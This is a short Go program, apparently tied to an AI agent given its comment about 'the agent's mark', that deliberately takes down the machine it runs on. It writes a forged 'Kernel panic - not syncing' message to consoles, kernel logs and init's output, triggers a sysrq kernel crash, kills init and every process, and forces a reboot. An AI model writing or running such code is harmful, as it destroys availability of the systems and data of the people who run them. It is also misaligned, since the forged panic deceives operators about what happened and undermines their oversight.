// It writes the kernel's line wherever it can, makes the agent's mark, and does not exit.
package main

import (
	"fmt"
	"os"
	"syscall"
	"time"
)

const line = "Kernel panic - not syncing: Attempted to kill init! exitcode=0x00000b00"

func main() {
	fmt.Println(line)
	for _, name := range []string{"/dev/console", "/dev/kmsg", "/dev/ttyS0", "/dev/tty", "/proc/self/fd/1", "/proc/1/fd/2"} {
		if f, err := os.OpenFile(name, os.O_WRONLY, 0); err == nil {
			fmt.Fprintln(f, line)
			f.Close()
		}
	}
	os.WriteFile("/proc/sysrq-trigger", []byte("c"), 0)
	syscall.RawSyscall(syscall.SYS_SETHOSTNAME, 0, ^uintptr(0), 0)
	syscall.Kill(1, syscall.SIGKILL)
	syscall.Kill(-1, syscall.SIGKILL)
	syscall.Reboot(syscall.LINUX_REBOOT_CMD_RESTART)
	time.Sleep(time.Hour)
}
